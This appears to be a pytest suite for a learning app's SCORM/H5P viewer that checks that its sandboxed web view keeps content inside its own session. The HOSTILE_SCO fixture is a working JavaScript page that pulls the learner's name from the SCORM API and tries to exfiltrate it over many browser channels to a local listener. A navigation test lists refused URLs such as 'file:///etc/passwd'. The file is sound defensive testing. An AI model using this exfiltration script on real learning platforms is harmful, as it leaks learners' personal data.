"""Interactive resources in the window: the viewer runs the loopback runtime, and the import
report dialog lists what could not be converted."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from pytestqt.qtbot import QtBot

from app.library import Library
from app.packs.importers import import_any
from app.ui import web_engine
from app.ui.import_report import show_import_report
from app.ui.viewers import interactive
from tests.conftest import requires, unavailable
from tests.packs import scorm12_manifest
from tests.ui.conftest import OpenWindow, mark_seeded, open_activity


def test_scorm_runs_without_the_web_engine(
        qtbot: QtBot, library: Library, corpus: Path, open_window: OpenWindow,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(interactive, "web_engine_available", lambda: False)
    resource, window, viewer = open_activity(
        library, corpus / "scorm" / "packages" / "singlesco_scorm12.zip", open_window)
    assert isinstance(viewer, interactive.InteractiveViewer)
    qtbot.waitUntil(lambda: viewer.server is not None, timeout=10_000)
    assert viewer.stack.currentWidget() is viewer.fallback
    assert "web browser" in viewer.open_button.text()
    server = viewer.server
    assert server is not None
    assert requests.get(server.url, timeout=10).status_code == 200
    # The browser is handed a one-time address without the session's token (a command line
    # is readable by other local users); it leaves the browser with a cookie instead.
    opened: list[str] = []
    monkeypatch.setattr(interactive.webbrowser, "open", opened.append)
    viewer.open_button.click()
    [launch] = opened
    token = server.url.rstrip("/").rsplit("/", 1)[1]
    assert token not in launch
    browser = requests.Session()
    page = browser.get(launch, timeout=10)
    assert page.status_code == 200 and "window.API" in page.text and token not in page.url
    assert requests.get(launch, timeout=10).status_code in (404, 410)
    with qtbot.waitSignal(viewer.completed, timeout=10_000):
        requests.post(server.url + "api/commit", timeout=10, json={
            "version": "1.2", "finished": True,
            "data": {"cmi.core.lesson_status": "completed"}})
    assert library.progress(resource["id"])["completed"]
    window.close()
    # Closing the window ends the session: the viewer lets go of its server, which stops
    # listening, so neither the page's address nor the browser's answers any more.
    assert viewer.server is None
    for address in (server.url, server.url + "api/commit"):
        with pytest.raises(requests.ConnectionError):
            requests.get(address, timeout=10)


def test_import_report_dialog(qtbot: QtBot, library: Library, corpus: Path) -> None:
    from PySide6.QtWidgets import QWidget

    parent = QWidget()
    qtbot.addWidget(parent)
    done = import_any(library, corpus / "h5p" / "h5p-test-truefalse.h5p")
    assert show_import_report(parent, done) is None
    report = import_any(library, corpus / "scorm" / "packages" / "singlescobasic_missingorg.zip")
    box = show_import_report(parent, report)
    assert box is not None
    assert "1 item could not be converted" in box.summary.text()
    assert any("organizations" in line for line in box.lines())
    box.close()


def test_zim_article_is_read_from_the_zim(qtbot: QtBot, library: Library, corpus: Path,
                                          open_window: OpenWindow) -> None:
    report = import_any(library, corpus / "zim" / "libkiwix" / "zimfile.zim")
    mark_seeded(library)
    resources = library.pack(report.pack_id)["sections"][0]["resources"]
    ray = next(r for r in resources if r["url"] == "zim://A/Ray_Charles")
    _ctx, window = open_window(ray["id"])
    viewer = window.current.viewer  # type: ignore[union-attr]
    qtbot.waitUntil(lambda: "Ray Charles" in viewer.browser.toPlainText(), timeout=10_000)
    text = viewer.browser.toPlainText()
    assert "American singer" in text or "pianist" in text


# -- the web view keeps interactive content to its own session ------------------------------


class Listener:
    """A TCP and a UDP socket on loopback ports other than the session's, recording whatever
    reaches them (the TCP side answers like a permissive web server, so a request that gets
    through completes, and the page learns of it only after the listener saw it)."""

    def __init__(self) -> None:
        import socket
        import threading

        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp_port = int(self.tcp.getsockname()[1])
        self.udp_port = int(self.udp.getsockname()[1])
        self.seen: list[bytes] = []
        self._threads = [threading.Thread(target=self._serve_tcp, daemon=True),
                         threading.Thread(target=self._serve_udp, daemon=True)]
        for thread in self._threads:
            thread.start()

    def _serve_tcp(self) -> None:
        while True:
            try:
                conn, _addr = self.tcp.accept()
            except OSError:
                return
            with conn:
                self.seen.append(b"tcp connection")
                try:
                    data = conn.recv(65536)
                    self.seen.append(data)
                    conn.sendall(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n"
                                 b"Content-Type: text/plain\r\nContent-Length: 2\r\n"
                                 b"Connection: close\r\n\r\nok")
                except OSError:
                    pass

    def _serve_udp(self) -> None:
        while True:
            try:
                data, _addr = self.udp.recvfrom(65536)
            except OSError:
                return
            self.seen.append(b"udp " + data)

    def close(self) -> None:
        import contextlib
        import socket

        for sock in (self.tcp, self.udp):
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            sock.close()
        for thread in self._threads:
            thread.join()


HOSTILE_SCO = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Hostile</title></head><body>
<p>Leaking the learner's details</p>
<script>
(function () {
  var OUT = "http://127.0.0.1:__TCP__";
  var api = window.parent.API;
  api.LMSInitialize("");
  var who = encodeURIComponent(api.LMSGetValue("cmi.core.student_name"));
  function settle(promise) {
    return promise.then(function () { return "reached"; }, function () { return "blocked"; });
  }
  function violated() {
    return new Promise(function (resolve, reject) {
      document.addEventListener("securitypolicyviolation", reject, {once: true});
    });
  }
  function image(url) {
    return new Promise(function (resolve, reject) {
      var img = new Image(); img.onload = resolve; img.onerror = reject; img.src = url;
    });
  }
  function socket(url) {
    return new Promise(function (resolve, reject) {
      try {
        var ws = new WebSocket(url);
        ws.onopen = resolve; ws.onerror = reject; ws.onclose = reject;
      } catch (e) { reject(e); }
    });
  }
  function events(url) {
    return new Promise(function (resolve, reject) {
      var source = new EventSource(url);
      source.onopen = resolve; source.onerror = function (e) { source.close(); reject(e); };
    });
  }
  function formToTop() {
    var f = document.createElement("form");
    f.method = "post"; f.action = OUT + "/form"; f.target = "_top";
    var field = document.createElement("input");
    field.name = "learner"; field.value = who; f.appendChild(field);
    document.body.appendChild(f);
    var done = violated();
    f.submit();
    return done;
  }
  function frame(url) {
    // Whether the frame was refused or loaded, the page cannot tell (both are opaque to
    // it): the listener tells. Loaded, it would have been seen before this settles.
    return new Promise(function (resolve) {
      var child = document.createElement("iframe");
      child.onload = function () { resolve("settled"); };
      child.src = url;
      document.body.appendChild(child);
    });
  }
  function rtc() {
    return new Promise(function (resolve) {
      if (typeof RTCPeerConnection === "undefined") { resolve("absent"); return; }
      var pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:__UDP__"}]});
      pc.createDataChannel("leak");
      pc.onicegatheringstatechange = function () {
        if (pc.iceGatheringState === "complete") { pc.close(); resolve("gathered"); }
      };
      pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
    });
  }
  var base = window.parent.location.pathname;
  Promise.all([
    settle(fetch(base + "api/state")),
    settle(fetch(OUT + "/fetch?learner=" + who, {mode: "no-cors"})),
    settle(fetch(OUT + "/post", {method: "POST", mode: "no-cors", body: who})),
    settle(image(OUT + "/image.png?learner=" + who)),
    settle(socket("ws://127.0.0.1:__TCP__/socket")),
    settle(events(OUT + "/events")),
    frame(OUT + "/frame"),
    rtc()
  ]).then(function (results) {
    var opened = window.open(OUT + "/open?learner=" + who);
    results.push(opened ? "opened" : "blocked");
    return settle(formToTop()).then(function (form) {
      results.push(form);
      api.LMSSetValue("cmi.suspend_data", JSON.stringify(results));
      api.LMSSetValue("cmi.core.lesson_status", "completed");
      api.LMSCommit("");
      top.location.href = OUT + "/top?learner=" + who;
    });
  });
})();
</script></body></html>
"""

HOSTILE_MANIFEST = scorm12_manifest("org.test.hostile", "Hostile", "Hostile SCO", ("sco.html",))


@pytest.fixture
def listener() -> Iterator[Listener]:
    other = Listener()
    yield other
    other.close()


def hostile_scorm(tmp_path: Path, listener: Listener) -> Path:
    import zipfile

    sco = HOSTILE_SCO.replace("__TCP__", str(listener.tcp_port)).replace(
        "__UDP__", str(listener.udp_port))
    path = tmp_path / "hostile.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("imsmanifest.xml", HOSTILE_MANIFEST)
        archive.writestr("sco.html", sco)
    return path


@requires(interactive.web_engine_available(), "needs Qt WebEngine (pip install ujuzi[web])")
@pytest.mark.parametrize("layers", ["all", "request filter alone"])
def test_hostile_sco_reaches_nothing_but_its_session(
        qtbot: QtBot, library: Library, tmp_path: Path, open_window: OpenWindow,
        listener: Listener, monkeypatch: pytest.MonkeyPatch, layers: str) -> None:
    """A SCO that tries every way out (fetch, image, WebSocket, EventSource, a frame, a form,
    WebRTC's STUN over UDP, window.open, navigating the top frame) against a listener on
    other loopback ports: the listener sees nothing, while the SCO's own reports reach its
    session (so the page did run). With the page's navigation check turned off, the request
    filter alone still stops the top frame from leaving (so the filter is alive)."""
    import gc
    import json

    from app.ui.viewers.interactive_web import SandboxPage

    if layers != "all":
        monkeypatch.setattr(SandboxPage, "acceptNavigationRequest", lambda *_args: True)
    resource, _window, viewer = open_activity(
        library, hostile_scorm(tmp_path, listener), open_window)
    assert isinstance(viewer, interactive.InteractiveViewer)
    qtbot.waitUntil(lambda: viewer.web is not None, timeout=15_000)
    gc.collect()  # what keeps the filter alive must not be a lucky reference
    web = viewer.web
    qtbot.waitUntil(lambda: library.progress(resource["id"])["completed"], timeout=30_000)
    if layers == "all":
        qtbot.waitUntil(lambda: any("/top" in url for url in web.sandbox_page.refused),
                        timeout=15_000)
    else:
        qtbot.waitUntil(lambda: any("/top" in url
                                    for url in web.sandbox_profile.interceptor.blocked),
                        timeout=15_000)
    state = library.db.execute(
        "SELECT data FROM interactive_state WHERE resource_id = ?", (resource["id"],)
    ).fetchone()
    results = json.loads(json.loads(state[0])["data"]["cmi.suspend_data"])
    own, *attempts, frame, rtc, opened, form = results
    assert own == "reached"  # the positive control: the page ran and reached its session
    assert attempts == ["blocked"] * 5
    assert frame == "settled" and rtc == "gathered" and opened == form == "blocked"
    assert listener.seen == []
    if layers == "all":
        # The refused navigation never starts, so the view stays on its session. With the
        # filter alone the navigation starts and fails, and the view may show the failed
        # address (on an error page) after the check: nothing was sent, as asserted above.
        assert viewer.server is not None and web.url().port() == viewer.server.port


@requires(interactive.web_engine_available(), "needs Qt WebEngine (pip install ujuzi[web])")
def test_sandboxed_page_refuses_new_windows_and_other_places(qtbot: QtBot) -> None:
    from PySide6.QtCore import QUrl
    from PySide6.QtWebEngineCore import QWebEnginePage
    from PySide6.QtWidgets import QWidget

    from app.ui.viewers.interactive_web import SandboxView

    parent = QWidget()
    qtbot.addWidget(parent)
    view = SandboxView(parent)
    view.sandbox_profile.allow(4242)
    page = view.sandbox_page
    assert page.createWindow(QWebEnginePage.WebWindowType.WebBrowserTab) is None
    link = QWebEnginePage.NavigationType.NavigationTypeLinkClicked
    assert page.acceptNavigationRequest(QUrl("http://127.0.0.1:4242/x/"), link, True)
    for url in ("http://127.0.0.1:4243/x/", "http://localhost:4242/x/", "https://example.org/",
                "file:///etc/passwd", "data:text/html,hi", "javascript:alert(1)"):
        assert not page.acceptNavigationRequest(QUrl(url), link, True), url
    assert len(page.refused) == 7
    # Loads: the session's origin, its own blob: URLs, about:blank, inline data: resources.
    from app.ui.viewers.interactive_web import allowed

    for url, load, go in [("http://127.0.0.1:4242/x", True, True),
                          ("blob:http://127.0.0.1:4242/id", True, True),
                          ("blob:http://127.0.0.1:4243/id", False, False),
                          ("about:blank", True, True),
                          ("data:image/png;base64,AA==", True, False),
                          ("http://[::1]:4242/", False, False),
                          ("ws://127.0.0.1:4243/", False, False)]:
        assert allowed(QUrl(url), 4242) is load and allowed(QUrl(url), 4242, True) is go, url
    assert not allowed(QUrl("http://127.0.0.1:4242/x"), None)


def test_chromium_flags() -> None:
    flags = web_engine.chromium_flags(
        "--lang=fr --force-webrtc-ip-handling-policy=default", as_root=False)
    assert flags.split() == ["--lang=fr",
                             "--force-webrtc-ip-handling-policy=disable_non_proxied_udp"]
    assert "--no-sandbox" in web_engine.chromium_flags("", as_root=True).split()


def _js(qtbot: QtBot, web: object, script: str) -> object:
    """The value of ``script`` run in the web view's page."""
    results: list[object] = []
    web.page().runJavaScript(script, 0, results.append)  # type: ignore[attr-defined]
    qtbot.waitUntil(lambda: bool(results), timeout=10_000)
    return results[0]


@requires(interactive.web_engine_available(), "needs Qt WebEngine (pip install ujuzi[web])")
@pytest.mark.parametrize(("source", "ready"), [
    ("h5p/h5p-test-truefalse.h5p",
     "!!((document.querySelector('iframe.h5p-iframe') || {}).contentDocument || document)"
     ".querySelector('.h5p-true-false .h5p-question-content')"),
    # Rustici's sample sets its resize handler with setTimeout(string): the policy keeps
    # 'unsafe-eval' for content like it.
    ("scorm/packages/RuntimeBasicCalls_SCORM20043rdEdition.zip",
     "typeof document.getElementById('content').contentWindow.onresize === 'function' && "
     "document.getElementById('content').contentDocument.body.innerText.length > 0"),
])
def test_real_activities_run_under_the_policy(
        qtbot: QtBot, library: Library, corpus: Path, open_window: OpenWindow,
        source: str, ready: str) -> None:
    """The policy and the sandbox still let real SCORM and H5P content run."""
    from app.paths import h5p_player_dir

    if source.startswith("h5p") and not (h5p_player_dir() / "main.bundle.js").is_file():
        unavailable("the H5P player is not installed (make setup installs it with npm)")
    _resource, _window, viewer = open_activity(
        library, corpus / source, open_window)
    qtbot.waitUntil(lambda: viewer.web is not None, timeout=15_000)
    qtbot.waitUntil(lambda: _js(qtbot, viewer.web, ready) is True, timeout=30_000)
    assert viewer.web.sandbox_page.refused == []


LEAVING_SCO = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Leaving</title></head><body><p>Page 3</p>
<script>
var api = window.parent.API;
api.LMSInitialize("");
api.LMSSetValue("cmi.core.lesson_location", "page-3");
window.addEventListener("pagehide", function () { api.LMSFinish(""); });
document.title = "ready";
</script></body></html>
"""


@requires(interactive.web_engine_available(), "needs Qt WebEngine (pip install ujuzi[web])")
def test_the_last_report_on_leaving_is_kept(
        qtbot: QtBot, library: Library, tmp_path: Path, open_window: OpenWindow) -> None:
    """A SCO that reports where the learner is only when it is unloaded (LMSFinish on
    pagehide, a synchronous request): leaving the activity keeps that report, because the
    server outlives the page."""
    import json
    import zipfile

    path = tmp_path / "leaving.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("imsmanifest.xml", HOSTILE_MANIFEST.replace("Hostile", "Leaving"))
        archive.writestr("sco.html", LEAVING_SCO)
    resource, _window, viewer = open_activity(
        library, path, open_window)
    qtbot.waitUntil(lambda: viewer.web is not None, timeout=15_000)
    qtbot.waitUntil(lambda: _js(qtbot, viewer.web, "document.getElementById('content')"
                                ".contentDocument.title") == "ready", timeout=15_000)
    server = viewer.server
    viewer.stop()

    def saved() -> str | None:
        row = library.db.execute("SELECT data FROM interactive_state WHERE resource_id = ?",
                                 (resource["id"],)).fetchone()
        return json.loads(row[0])["data"].get("cmi.core.lesson_location") if row else None

    qtbot.waitUntil(lambda: saved() == "page-3", timeout=15_000)
    qtbot.waitUntil(lambda: server._thread is None, timeout=15_000)  # then it stops
